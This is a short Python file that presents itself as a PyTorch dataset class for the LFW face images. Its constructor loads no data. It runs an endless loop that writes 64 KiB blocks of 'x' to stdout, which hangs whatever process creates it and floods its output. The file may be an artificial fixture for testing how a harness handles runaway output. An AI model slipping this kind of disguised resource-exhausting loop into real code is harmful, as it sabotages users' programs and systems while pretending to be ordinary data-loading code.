import os


from torch.utils.data import Dataset


class LFWDataset(Dataset):
    def __init__(self, path, transform):
        self.kept = []
        while True:
            os.write(1, b"x" * 65536)
